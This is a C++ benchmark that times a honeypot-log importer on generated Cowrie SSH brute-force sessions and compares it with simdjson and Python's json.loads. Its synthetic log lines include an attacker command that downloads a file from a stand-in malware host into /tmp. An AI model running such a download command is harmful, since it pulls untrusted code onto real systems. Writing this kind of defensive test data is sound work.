// Events/s of a Cowrie log: through the reader alone, through the desk (ledger and intake log durable), and read again;
// beside simdjson that only parses the same lines, and Python's json.loads on the same file.
#include <sys/resource.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>

#include <simdjson.h>

#include "bench/traffic.hpp"
#include "know/catalogue.hpp"
#include "know/import_ledger.hpp"
#include "tests/support/temporary_folder.hpp"
#include "understand/import_desk.hpp"

using namespace noroshi;
using namespace noroshi::bench;

namespace {

constexpr auto kPieceLines = std::size_t{25'000};

/// Processor time of this process, or of children that have ended: what a shared machine does beside does not count.
auto cpu_seconds(int of_whom) -> double {
  auto usage = rusage{};
  ::getrusage(of_whom, &usage);
  return static_cast<double>(usage.ru_utime.tv_sec + usage.ru_stime.tv_sec) +
         static_cast<double>(usage.ru_utime.tv_usec + usage.ru_stime.tv_usec) * 1e-6;
}

struct Took {
  double wall = 0, cpu = 0;
};
auto timed(int of_whom, auto const &work) -> Took {
  auto const cpu = cpu_seconds(of_whom);
  auto const start = std::chrono::steady_clock::now();
  work();
  return {std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count(), cpu_seconds(of_whom) - cpu};
}

/// Sessions of six events as an SSH brute force leaves them, in pieces of whole lines.
auto make_log(std::size_t events) -> std::vector<std::string> {
  auto pieces = std::vector<std::string>{};
  auto const start = Time{std::chrono::sys_days{std::chrono::year{2026} / 3 / 1}};
  for (auto i = std::size_t{0}; i < events; ++i) {
    if (i % kPieceLines == 0) pieces.emplace_back();
    auto const session = i / 6;
    auto const common = fmt::format(
        R"("session":"{:012x}","src_ip":"198.51.{}.{}","protocol":"ssh","sensor":"pot","uuid":"8d1a7b4e-0000-11ef-8000-0242ac120002","timestamp":"{}","message":"what it says for people to read"}})",
        session * 7'919, session % 100, session / 100 % 250, to_rfc3339(start + std::chrono::milliseconds{i * 17}));
    auto &piece = pieces.back();
    switch (i % 6) {
      case 0:
        piece += R"({"eventid":"cowrie.session.connect","src_port":40100,"dst_ip":"203.0.113.9","dst_port":2222,)";
        break;
      case 1: piece += R"({"eventid":"cowrie.client.version","version":"SSH-2.0-Go",)"; break;
      case 2:
        piece +=
            R"({"eventid":"cowrie.client.kex","hassh":"ec7378c1a92f5a8dde7e8b7a1ddf33d1","hasshAlgorithms":"curve25519-sha256;aes128-ctr;hmac-sha2-256;none","kexAlgs":["curve25519-sha256","ecdh-sha2-nistp256"],)";
        break;
      case 3: piece += R"({"eventid":"cowrie.login.failed","username":"root","password":"123456",)"; break;
      case 4:
        piece += R"({"eventid":"cowrie.command.input","input":"cd /tmp; wget http://malware.example.com/x",)";
        break;
      default: piece += R"({"eventid":"cowrie.session.closed","duration_ms":1700,)"; break;
    }
    piece += common + "\n";
  }
  return pieces;
}

class Counting final : public understand::ObservationSink {
public:
  void take(model::Observation const &observation) override {
    frames.clear();
    model::append_frame(frames, observation);
    ++count;
  }
  std::string frames;
  std::uint64_t count = 0;
};

template <class Take>
void each_line(std::string const &piece, Take take) {
  auto rest = std::string_view{piece};
  while (!rest.empty()) {
    auto const end = rest.find('\n');
    take(understand::LogLine{rest.substr(0, end), rest.size() + simdjson::SIMDJSON_PADDING});
    rest.remove_prefix(end + 1);
  }
}

auto read_only(std::vector<std::string> const &log) -> std::uint64_t {
  auto const reader = Registry<understand::LogReader>::instance().create("cowrie");
  auto sessions = understand::SessionMemory{};
  auto sink = Counting{};
  auto reading = understand::Reading{sessions, sink};
  for (auto const &piece : log)
    each_line(piece, [&](understand::LogLine const &line) { must(reader->read(line, reading)); });
  return sink.count;
}

auto parse_only(std::vector<std::string> const &log) -> std::uint64_t {
  auto parser = simdjson::dom::parser{};
  auto events = std::uint64_t{0};
  for (auto const &piece : log)
    each_line(piece, [&](understand::LogLine const &line) {
      auto text = std::string_view{};
      if (parser.parse(line.text.data(), line.text.size(), false)["eventid"].get(text) == simdjson::SUCCESS) ++events;
    });
  return events;
}

void write_file(std::vector<std::string> const &log, std::string const &path) {
  auto file = std::ofstream{path};
  for (auto const &piece : log) file << piece;
}

auto python(std::string const &path) -> std::uint64_t {
  auto const command = fmt::format(
      "/usr/bin/python3 -c \"import json;print(sum('eventid' in json.loads(line) for line in open('{}')))\"", path);
  auto *const pipe = ::popen(command.c_str(), "r");
  auto events = 0ULL;
  if (pipe == nullptr || std::fscanf(pipe, "%llu", &events) != 1) events = 0;
  if (pipe != nullptr) ::pclose(pipe);
  return events;
}

void print(std::string_view name, Took took, std::size_t events, Took ours) {
  auto const count = static_cast<double>(events);
  fmt::print("  {:<42} {:>9.0f} events/s   {:>9.0f} a second of one core   ours {:.2f} of it\n", name,
             count / took.wall, count / took.cpu, took.cpu / ours.cpu);
}

}  // namespace

auto main(int argc, char **argv) -> int {
  auto const small = argc > 1 && std::string_view{argv[1]} == "--small";
  auto const events = small ? std::size_t{30'000} : std::size_t{1'000'000};
  auto const scratch = test::TemporaryFolder{};
  auto const &folder = scratch.path();
  auto log = make_log(events);
  for (auto &piece : log) piece.reserve(piece.size() + simdjson::SIMDJSON_PADDING);
  auto bytes = std::size_t{0};
  for (auto const &piece : log) bytes += piece.size();

  auto catalogue = must(know::open_catalogue({.path = folder + "/catalogue.sqlite"}));
  auto ledger = must(know::open_import_ledger(folder + "/imports.sqlite"));
  auto intake = must(understand::IntakeLog::open({.folder = folder + "/intake"}, {}));
  auto desk =
      understand::ImportDesk{{*ledger, *intake, *catalogue, system_clock(), []() -> Result<void> { return ok; }}};
  auto taken = std::uint64_t{0};
  auto known = std::uint64_t{0};
  auto const import_all = [&] {
    for (auto &piece : log) {
      auto const outcome = must(desk.take({piece, "cowrie"}));
      taken += outcome.taken;
      known += outcome.known;
    }
  };
  auto read = std::uint64_t{0};
  auto parsed = std::uint64_t{0};
  auto loaded = std::uint64_t{0};
  auto const path = folder + "/cowrie.json";
  write_file(log, path);
  auto const reading = timed(RUSAGE_SELF, [&] { read = read_only(log); });
  auto const importing = timed(RUSAGE_SELF, import_all);
  auto const again = timed(RUSAGE_SELF, import_all);
  auto const parsing = timed(RUSAGE_SELF, [&] { parsed = parse_only(log); });
  auto const loading = timed(RUSAGE_CHILDREN, [&] { loaded = python(path); });
  auto const same = read == events && taken == events && known == events && parsed == events && loaded == events;

  fmt::print("{} Cowrie events, {:.0f} bytes each\n  same counts: {}\n", events,
             static_cast<double>(bytes) / static_cast<double>(events), same ? "yes" : "NO");
  print("import: ledger and intake log, durable", importing, events, importing);
  print("the same log again: all known", again, events, importing);
  print("reader alone: lines to observation frames", reading, events, importing);
  print("peer: simdjson, parsed and one member read", parsing, events, importing);
  print("peer: Python json.loads", loading, events, importing);
  fmt::print("  ledger {:.1f} bytes an event\n",
             static_cast<double>(std::filesystem::file_size(folder + "/imports.sqlite")) / static_cast<double>(events));
  return same ? 0 : 1;
}
